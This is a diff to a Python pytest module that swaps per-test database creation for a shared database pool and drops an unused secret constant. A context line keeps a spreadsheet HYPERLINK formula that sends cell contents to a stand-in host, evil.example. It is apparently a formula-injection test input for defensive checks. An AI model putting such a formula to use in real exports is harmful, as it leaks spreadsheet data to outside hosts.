@@ -7,7 +7,7 @@ from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass
 from random import Random
-from typing import Any, Final, LiteralString
+from typing import Any, Final
 from urllib.parse import urlencode, urlsplit, urlunsplit
 
 import psycopg
@@ -33,7 +33,7 @@ from tests.support import (
     wait_recorded,
     wait_until,
 )
-from tests.support.databases import administer, database_name, named
+from tests.support.databases import Databases
 from tests.support.groups import group_id, of_group, whole_group
 from tests.support.place import Place
 from tests.support.super_streams import super_stream
@@ -146,15 +146,6 @@ def expectations(orders: str, payments: str) -> list[Expectation]:
 
 
 @contextmanager
-def web_database(server_url: str, template: str, copying: LiteralString) -> Iterator[str]:
-    """A database of the schema, for as long as tests need it."""
-    name = database_name("relatum_web")
-    administer(server_url, "CREATE DATABASE {} TEMPLATE {} " + copying, name, template)
-    yield named(server_url, name)
-    administer(server_url, "DROP DATABASE {} WITH (FORCE)", name)
-
-
-@contextmanager
 def held_up(url: str) -> Iterator[Callable[[], int]]:
     """A database that answers no look-up; gives what says how many sessions wait for it."""
     waiting = "SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND datname = current_database()"
@@ -165,27 +156,21 @@ def held_up(url: str) -> Iterator[Callable[[], int]]:
 
 
 @pytest.fixture(scope="session")
-def web_database_url(database_server_url: str, _migrated_template: str, _copying: LiteralString) -> Iterator[str]:
+def web_database_url(_databases: Databases) -> Iterator[str]:
     """A database for all these tests."""
-    with web_database(database_server_url, _migrated_template, _copying) as url:
-        yield url
+    url = _databases.take()
+    yield url
+    _databases.give_back(url)
 
 
 @pytest.fixture
 def reader_url(web_database_url: str) -> Iterator[str]:
     """The URL of a user in `relatum_reader`, for the database that is shared."""
-    with reading_only(web_database_url) as url:
-        yield url
-
-
-@contextmanager
-def reading_only(database_url: str) -> Iterator[str]:
-    """A database's URL for a user in `relatum_reader`."""
     name = unique_name("page").replace("-", "_")
-    with psycopg.connect(database_url, autocommit=True) as administrator:
+    with psycopg.connect(web_database_url, autocommit=True) as administrator:
         made = sql.SQL("CREATE ROLE {} LOGIN PASSWORD 'x' IN ROLE relatum_reader")
         administrator.execute(made.format(sql.Identifier(name)))
-        parts = urlsplit(database_url)
+        parts = urlsplit(web_database_url)
         yield urlunsplit(parts._replace(netloc=f"{name}:x@{parts.hostname}:{parts.port}"))
         administrator.execute(sql.SQL("DROP OWNED BY {}").format(sql.Identifier(name)))
         administrator.execute(sql.SQL("DROP ROLE {}").format(sql.Identifier(name)))
@@ -324,7 +309,6 @@ TALK_KEYS: Final = [
 ]
 
 FORMULA: Final = """=HYPERLINK("http://evil.example/?x="&A1;"a")"""
-SECRET: Final = "4711-secret"
 
 HOUR_US: Final = 3_600_000_000
 
@@ -361,16 +345,9 @@ def _large(streams: list[str], count: int, chance: Random) -> dict[str, list[Any
 
 
 @pytest.fixture(scope="session")
-def talks(
-    amqp_url: str, stream_url: str, database_server_url: str, _migrated_template: str, _copying: LiteralString
-) -> Iterator[Talks]:
+def talks(amqp_url: str, stream_url: str, _databases: Databases) -> Iterator[Talks]:
     """Conversations, in a database of their own."""
-    with web_database(database_server_url, _migrated_template, _copying) as database_url:
-        yield from _talking(amqp_url, stream_url, database_url)
-
-
-def _talking(amqp_url: str, stream_url: str, database_url: str) -> Iterator[Talks]:
-    """Publish and record them."""
+    database_url = _databases.take()
     orders, payments, mails = unique_name("orders"), f'{unique_name("=pay")} "/<b>?#%41&ö', unique_name("mails")
     # Larger ones are in streams of usual names: the weight of a page is that of its names, too.
     large = [orders, mails, unique_name("refunds")]
@@ -401,5 +378,6 @@ def _talking(amqp_url: str, stream_url: str, database_url: str) -> Iterator[Talk
         yield Talks(options, orders, payments, 0, placed="", mails=mails)
     finally:
         engine.dispose()
+        _databases.give_back(database_url)
         for name in streams:
             delete_stream(amqp_url, name)
